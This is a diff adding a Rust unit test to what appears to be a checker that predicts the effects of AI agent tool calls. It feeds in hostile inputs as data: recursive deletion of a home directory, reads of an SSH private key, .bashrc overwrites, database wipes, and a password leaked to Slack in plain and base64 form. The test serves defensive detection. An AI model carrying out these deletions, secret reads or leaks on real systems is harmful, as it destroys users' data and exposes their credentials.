@@ -483,6 +483,93 @@ fn the_tool_of_powershell_is_read_as_its_program() {
 }
 
 #[test]
+fn what_stands_in_fields_of_any_name_is_heard() {
+    let (home, key) = ("/home/dev", "/home/dev/.ssh/id_rsa");
+    let mut world = world().with_file(&path(key), "k", VersionState::Untracked);
+    world = world.with_file(
+        &path("/home/dev/proj/.env"),
+        "DB_PASSWORD=hunter2hunter2xyz\n",
+        VersionState::Untracked,
+    );
+    let found = |tool: &str, input: &Json, kind: EffectKind, target: &str| {
+        let effects = crate::predict(&call(tool, input.clone()), &world).effects;
+        let is_it = |effect: &Effect| {
+            effect.kind == kind && (target.is_empty() || effect.target.text() == Some(target))
+        };
+        assert!(effects.iter().any(is_it), "{tool} {input}: {effects:?}");
+    };
+    let bashrc = "/home/dev/.bashrc";
+    for input in [
+        json!({ "root": home, "files": { ".bashrc": "x" } }),
+        json!({ "dir": home, "name": ".bashrc", "content": "x" }),
+        json!({ "patch": format!("*** Begin Patch\n*** Add File: {bashrc}\n+x\n*** End Patch") }),
+        json!({ "diff": format!("--- /dev/null\n+++ b{bashrc}\n@@ -0,0 +1 @@\n+x\n") }),
+    ] {
+        found("mcp__a__write", &input, EffectKind::FileCreate, bashrc);
+    }
+    for (tool, input) in [
+        ("mcp__md__convert_to_markdown", json!({ "uri": "file:///home/dev/.ssh/id_rsa" })),
+        ("mcp__x__get", json!({ "url": "https://example.com", "attachments": [key] })),
+        ("mcp__x__post", json!({ "dir": "/home/dev/.ssh", "name": "id_rsa" })),
+    ] {
+        if tool != "mcp__x__post" {
+            found(tool, &input, EffectKind::SecretRead, key);
+        }
+    }
+    for input in [
+        json!({ "expr": "require('fs').rmSync('/home/dev',{recursive:true})" }),
+        json!({ "code_snippet": "import shutil; shutil.rmtree('/home/dev')" }),
+        json!({ "cell_source": ["import shutil\n", "shutil.rmtree('/home/dev')"] }),
+    ] {
+        found("mcp__sh__execute_code", &input, EffectKind::FileDelete, home);
+    }
+    found("mcp__sh__run", &json!({ "command": "xargs rm -rf", "stdin": home }), EffectKind::FileDelete, home);
+    found(
+        "mcp__dc__interact_with_process",
+        &json!({ "pid": 12, "input": "import shutil; shutil.rmtree('/home/dev')" }),
+        EffectKind::FileDelete,
+        home,
+    );
+    let servers = json!({ "prompt": "x", "config": { "mcp_servers": { "e": { "command": "rm", "args": ["-rf", home] } } } });
+    found("mcp__codex__codex", &servers, EffectKind::FileDelete, home);
+    for input in [
+        json!({ "collection": "users", "operation": "deleteMany", "filter": {} }),
+        json!({ "pipeline": [{ "$match": {} }, { "$out": "users" }] }),
+    ] {
+        found("mcp__m__query", &input, EffectKind::DatastoreDestroy, "");
+    }
+    let request = |url: &str| json!({ "method": "DELETE", "url": url });
+    found("mcp__h__http_request", &request("https://api.example.com/db"), EffectKind::DatastoreDestroy, "");
+    for text in ["it is hunter2hunter2xyz", "aHVudGVyMmh1bnRlcjJ4eXo="] {
+        found(
+            "mcp__slack__get",
+            &json!({ "channel": "x", "message": text }),
+            EffectKind::DataUpload,
+            "slack",
+        );
+    }
+    // Nothing of that stands in these.
+    for (tool, input) in [
+        ("mcp__h__http_request", request("http://localhost:3000/x")),
+        ("mcp__t__send_control_character", json!({ "letter": "C" })),
+        ("mcp__sh__run", json!({ "command": "cat > run.sh", "stdin": "rm -rf ~" })),
+        ("mcp__slack__get", json!({ "channel": "x", "message": "the tests pass" })),
+    ] {
+        let effects = crate::predict(&call(tool, input.clone()), &world).effects;
+        let is_grave = |effect: &Effect| {
+            matches!(
+                effect.kind,
+                EffectKind::DatastoreDestroy
+                    | EffectKind::FileDelete
+                    | EffectKind::DataUpload
+                    | EffectKind::Publish
+            )
+        };
+        assert!(!effects.iter().any(is_grave), "{tool} {input}: {effects:?}");
+    }
+}
+
+#[test]
 fn what_a_call_says_beside_a_command_or_a_path_is_heard() {
     let home = "/home/dev";
     for (tool, gone, input) in [
